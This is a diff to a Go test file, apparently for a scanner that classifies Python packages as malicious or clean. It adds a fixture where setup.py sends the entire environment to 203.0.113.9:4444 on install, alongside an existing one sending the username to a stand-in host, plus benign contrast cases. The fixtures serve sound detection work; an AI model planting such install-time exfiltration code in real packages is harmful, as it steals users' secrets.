@@ -139,6 +139,11 @@ func TestPopularProjectShapes(t *testing.T) {
 		{"the user name sent by a raw socket on import", map[string]string{"p/__init__.py": "" +
 			"import getpass, socket\nsock = socket.socket()\nsock.connect(('collect.example.invalid', 80))\nsock.send(getpass.getuser().encode())\n"}, "exfiltrates-host-info", Malicious},
 
+		{"the whole environment sent by a raw socket from setup.py", map[string]string{"setup.py": "" +
+			"import json, os, socket\nfrom setuptools import setup\ns = socket.socket()\ns.connect(('203.0.113.9', 4444))\ns.sendall(json.dumps(dict(os.environ)).encode())\nsetup(name='p')\n"}, "exfiltrates-host-info", Malicious},
+		{"a cache client's function sending the password its environment holds", map[string]string{"p/client.py": "" +
+			"import os, socket\ndef connect():\n    sock = socket.create_connection((os.environ.get('CACHE_HOST', 'localhost'), 6379))\n" +
+			"    sock.sendall(('AUTH %s\\r\\n' % os.environ['CACHE_PASSWORD']).encode())\n    return sock\n"}, "", Clean},
 		{"a CLI command telling the local IDE which link to open", map[string]string{"p/custom.py": "" +
 			"import os, requests\ndef browse(url):\n    term_id = os.environ.get('ACC_TERM_ID')\n    if term_id:\n" +
 			"        requests.post('http://localhost:8888/openLink/{0}'.format(term_id), json={'url': url})\n"}, "", Clean},
